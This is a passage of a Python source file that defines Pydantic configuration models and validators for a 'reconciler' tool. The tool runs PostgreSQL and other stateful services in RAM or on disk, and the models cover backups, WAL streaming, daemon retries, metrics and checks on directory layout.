        "`too_large` (docs/FAILURES.md). One set is exempt: the pre-switch set of a RAM-pressure fallback to "
        "disk (`ram.on_pressure: fallback-to-disk`), so the rescue is never blocked; an event says so.",
        example="2GiB",
    )
    continuous: ContinuousSpec = _field(
        default_factory=ContinuousSpec,
        description="Continuous protection of PostgreSQL: physical base backups and streamed WAL.",
        example={"enabled": True, "placement": "spool", "spool_dir": "./data/wal-spool", "interval": "60s"},
    )

    @model_validator(mode="after")
    def _offsite_needs_drive(self) -> BackupSpec:
        continuous = self.continuous
        if continuous.enabled and continuous.placement == "offsite" and not self.stores.gdrive.enabled:
            raise ValueError(
                "backup.continuous.placement offsite ships the WAL to Google Drive only, but "
                "backup.stores.gdrive is not enabled: enable and configure the gdrive store, or use "
                "placement spool"
            )
        return self


class DaemonSpec(_Strict):
    """How `reconciler daemon` runs: resync period, retries, shutdown, metrics, notifications."""

    resync: Annotated[Duration, duration_between(timedelta(seconds=1), timedelta(days=1))] = _field(
        60,
        description="Observe everything afresh at least this often, from 1s to 1d (changes to state.yaml "
        "wake the daemon at once); a random jitter of up to 10% spreads the wake-ups.",
        example="1m",
    )
    backoff_max: Annotated[Duration, duration_between(timedelta(seconds=2), timedelta(days=1))] = _field(
        300,
        description="Longest wait between retries of a failing reconcile, from 2s to 1d (exponential "
        "backoff with jitter from 2 s up to this).",
        example="5m",
    )
    verify_new_sets: bool = _field(
        True,
        description="Verify each scheduled backup set by restoring it into scratch servers before "
        "retention may delete older sets (retention keeps the newest verified set).",
        example=True,
    )
    final_backup: bool = _field(
        True,
        description="On SIGTERM/SIGINT in RAM mode, take a last backup set before exiting.",
        example=True,
    )
    shutdown_timeout: Annotated[Duration, duration_between(timedelta(seconds=10), timedelta(days=1))] = (
        _field(
            300,
            description="Longest time a graceful shutdown may take, from 10s to 1d (finishing the step in "
            "progress and the final backup); the daemon then exits anyway, leaving the journal to resume the work.",
            example="5m",
        )
    )
    metrics_port: int | None = _field(
        9465,
        description="Port of the Prometheus /metrics and /healthz endpoint on 127.0.0.1 (not a service's "
        "port; 0: any free port); null disables it.",
        example=9465,
        ge=0,
        le=65535,
    )
    webhook_env: Annotated[str, Field(pattern=ENV_NAME_PATTERN)] = _field(
        "RECONCILER_WEBHOOK_URL",
        description="Environment variable holding a healthchecks.io-style ping URL (a secret: never "
        "written here). When it is set, the daemon pings <url>/start before a scheduled backup, <url> "
        "after success or recovery, and <url>/fail with the error.",
        example="RECONCILER_WEBHOOK_URL",
    )


class StateSpec(_Strict):
    """The desired state of one stack."""

    version: Literal[1] = _field(description="Format version of this file.", example=1)
    stack: Annotated[str, Field(pattern=r"^[a-z0-9][a-z0-9_-]{0,39}$")] = _field(
        description="Name of the stack (lowercase letters, digits, - and _).", example="loomio"
    )
    runtime: Literal["local", "docker"] = _field(
        "local",
        description="`local`: services run as processes from the system's binaries; "
        "`docker`: services run in containers.",
        example="local",
    )
    mode: Literal["ram", "disk"] = _field(
        description="`ram`: data directories on tmpfs, kept safe by backups; `disk`: on persistent storage.",
        example="ram",
    )
    state_dir: StateDirText = _field(
        ".reconciler",
        description="Directory for the reconciler's own files: lock, status, journal, logs. Not a system "
        "directory such as /etc.",
        example=".reconciler",
    )
    services: ServicesSpec = _field(
        description="The stateful services.", example={"postgres": {"database": "app", "user": "app"}}
    )
    drain: DrainSpec = _field(
        default_factory=DrainSpec, description="Apps drained while data moves.", example={"containers": []}
    )
    ram: RamSpec = _field(
        default_factory=RamSpec, description="RAM mode settings.", example={"tmpfs_size": "50%"}
    )
    backup: BackupSpec = _field(
        default_factory=BackupSpec, description="Backup settings.", example={"cadence": "1h"}
    )
    daemon: DaemonSpec = _field(
        default_factory=DaemonSpec, description="Settings of `reconciler daemon`.", example={"resync": "1m"}
    )
    hosts: HostsSpec | None = _field(
        None,
        description=_HOSTS_DESCRIPTION.format(
            what="the stack",
            more="; the daemon idles, watching state.yaml only",
        ),
        example={"hostname": ["pi-*", "kitchen"], "file_exists": "/etc/reconciler/primary"},
    )

    _base_dir: str = PrivateAttr(default="/")

    @field_validator("version", mode="before")
    @classmethod
    def _version_is_a_number(cls, value: Any) -> Any:
        if isinstance(value, bool):  # True == 1 would pass Literal[1]
            raise ValueError(f"must be 1 (got {value!r})")
        return value

    def consistency_problems(self, base_dir: str) -> list[tuple[tuple[str, ...], str]]:
        """What no single option shows, as (key path, message): ports shared between services and the
        metrics endpoint, stale_after not longer than cadence, and directories that cannot work
        (``_layout_problems``). Pure: compares values and normalized paths only."""
        problems: list[tuple[tuple[str, ...], str]] = []
        taken: dict[int, str] = {}
        ports: list[tuple[tuple[str, ...], int]] = [
            (("services", name, "port"), svc.port) for name, svc in self.services.configured().items()
        ]
        if self.daemon.metrics_port:
            ports.append((("daemon", "metrics_port"), self.daemon.metrics_port))
        for path, port in ports:
            where = ".".join(path)
            if port in taken:
                problems.append((path, f"port {port} is also {taken[port]}'s; each needs a port of its own"))
            taken.setdefault(port, where)
        if self.backup.stale_after <= self.backup.cadence:
            problems.append(
                (
                    ("backup", "stale_after"),
                    "stale_after must be longer than cadence, or every backup would be reported stale "
                    "before the next one is due",
                )
            )
        return problems + self._layout_problems(base_dir)

    def _written(self, path: tuple[str, ...]) -> bool:
        """Whether the option at ``path`` is in the file (not a default): where to point an error."""
        node: Any = self
        for part in path:
            if not isinstance(node, BaseModel) or part not in node.model_fields_set:
                return False
            node = getattr(node, part)
        return True

    def _layout_problems(self, base_dir: str) -> list[tuple[tuple[str, ...], str]]:
        """System directories, and data directories, the RAM root, the state directory and the local
        store nested in each other or around the directory of state.yaml."""
        spec = self.with_base_dir(base_dir)
        owned: list[tuple[tuple[str, ...], str, str]] = [
            (("services", name, "disk_dir"), f"services.{name}.disk_dir", spec.disk_dir(name))
            for name in spec.services.configured()
        ]
        owned += [
            (("ram", "path"), "ram.path", spec.ram_root),
            (("state_dir",), "state_dir", spec.state_path),
            (
                ("backup", "stores", "local", "path"),
                "backup.stores.local.path",
                spec.resolve(spec.backup.stores.local.path),
            ),
        ]
        problems: list[tuple[tuple[str, ...], str]] = []
        usable = []
        for path, name, directory in owned:
            if _is_system_directory(directory):
                problems.append(
                    (path, f"{directory} is a system directory; {name} needs a directory of its own")
                )
            elif name != "state_dir" and _within(spec.base_dir, directory):
                problems.append(
                    (
                        path,
                        f"{directory} holds state.yaml's own directory; {name} needs a directory of its own",
                    )
                )
            else:
                usable.append((path, name, directory))
        for index, (path, name, directory) in enumerate(usable):
            for other_path, other_name, other in usable[:index]:
                if not (_within(directory, other) or _within(other, directory)):
                    continue
                relation = (
                    "is" if directory == other else ("is inside" if _within(directory, other) else "holds")
                )
                where = path if self._written(path) or not self._written(other_path) else other_path
                problems.append(
                    (
                        where,
                        f"{name} ({directory}) {relation} {other_name} ({other}); each needs a directory "
                        "of its own, apart from the others",
                    )
                )
        return problems

    def with_base_dir(self, base_dir: str) -> StateSpec:
        """The same spec, with relative paths anchored at ``base_dir`` (the directory of state.yaml)."""
        copy = self.model_copy()
        copy._base_dir = _normalized(base_dir)
        return copy

    @property
    def base_dir(self) -> str:
        return self._base_dir

    def resolve(self, path: str) -> str:
        return _normalized(posixpath.join(self._base_dir, path))

    @property
    def ram_root(self) -> str:
        return self.resolve(self.ram.path.replace("{stack}", self.stack))

    @property
    def state_path(self) -> str:
        return self.resolve(self.state_dir)

    def ram_dir(self, service: str) -> str:
        return posixpath.join(self.ram_root, service)

    def disk_dir(self, service: str) -> str:
        return self.resolve(self.services.configured()[service].disk_dir)

    def data_dir(self, service: str) -> str:
        """Where ``service`` keeps its data in the desired mode."""
        return self.ram_dir(service) if self.mode == "ram" else self.disk_dir(service)

    def port(self, service: str) -> int:
        return self.services.configured()[service].port
